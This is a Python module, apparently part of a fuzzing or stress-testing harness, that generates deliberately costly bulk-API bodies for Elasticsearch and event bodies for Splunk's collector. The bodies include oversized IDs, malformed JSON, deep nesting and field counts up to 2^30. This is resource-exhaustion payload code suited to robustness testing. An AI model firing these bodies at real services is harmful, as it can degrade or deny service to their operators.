"""Costly requests of Elasticsearch's bulk API and of Splunk's collector."""

from collections.abc import Callable
from typing import Any

from proof.attacks.expensive_bodies import JSON
from proof.attacks.pieces import CODINGS, MEMBERS, NAMES, Built, Dialects, Genes, many, members

ACTIONS: dict[str, Callable[[bytes], bytes]] = {
    "bare": lambda each: b'{"index":{}}',
    "index": lambda each: b'{"index":{"_index":"' + each + b'"}}',
    "id": lambda each: b'{"create":{"_id":"' + each + b'"}}',
    "long id": lambda each: b'{"create":{"_id":"' + b"\x7f" * 512 + b'"}}',
    "delete": lambda each: b'{"delete":{"_id":"' + b"\x7f" * 512 + b'","_index":"' + b"\x7f" * 512 + b'"}}',
    "blank": lambda each: b" ",
    "blanks": lambda each: b" " * 70,
    "empty": lambda each: b"",
}
DOCUMENTS = {
    "empty": b"{}",
    "small": b'{"a":0}',
    "date": b'{"@timestamp":"2025-01-14T08:30:00Z"}',
    "broken": b'{"a":',
    "broken end": b'{"a":"' + b"x" * 1000 + b'","b":tru}',
    "not text": b'{"a":"' + b"x" * 1000 + b'\xff"}',
}


def bulk(genes: Genes) -> Built:
    action, document = ACTIONS[genes["action"]], DOCUMENTS[genes["document"]]
    if genes["fields"]:
        document = b"{" + members(genes | {"name": genes["names"]}, genes["fields"], spare=2000) + b"}"
    ending = b"\n" if genes["action"] in ("blank", "empty", "blanks", "delete") else b"\n" + document + b"\n"
    head = b"" if genes["action"] != "blank" else b'{"index":{}}\n{}\n'
    body = head + many(genes["name"], lambda each: action(each) + ending, spare=20)
    return "/cost/_bulk", body, ["Content-Type: application/x-ndjson"]


ORIGINS: dict[str, Callable[[bytes], bytes]] = {
    "none": lambda each: b"",
    "host": lambda each: b'"host":"' + each + b'",',
    "source": lambda each: b'"source":"' + each + b'",',
    "long": lambda each: b'"source":"' + each + b"x" * 1200 + b'",',
    "index": lambda each: b'"index":"' + each + b'",',
}
EVENTS = {
    "letter": b'"x"',
    "time": b'"x","time":"1700000000.123456"',
    "bad time": b'"x","time":"x"',
    "object": b'{"a":0}',
    "deep": b"[" * 40 + b"]" * 40,
}


def splunk(genes: Genes) -> Built:
    origin, event = ORIGINS[genes["origin"]], b'"event":' + EVENTS[genes["event"]]
    if genes["fields"]:
        event += b',"fields":{' + members(genes | {"name": genes["names"]}, genes["fields"], spare=2000) + b"}"
    return "/services/collector/event", many(genes["name"], lambda each: b"{" + origin(each) + event + b"}"), [JSON]


FIELDS: dict[str, Any] = {"names": list(NAMES), "fields": [0, 1, 65, 70_000, 1 << 30], "coding": CODINGS}
DIALECTS: Dialects = {
    "bulk": (bulk, MEMBERS | {"action": list(ACTIONS), "document": list(DOCUMENTS)} | FIELDS),
    "splunk": (splunk, MEMBERS | {"origin": list(ORIGINS), "event": list(EVENTS)} | FIELDS),
}
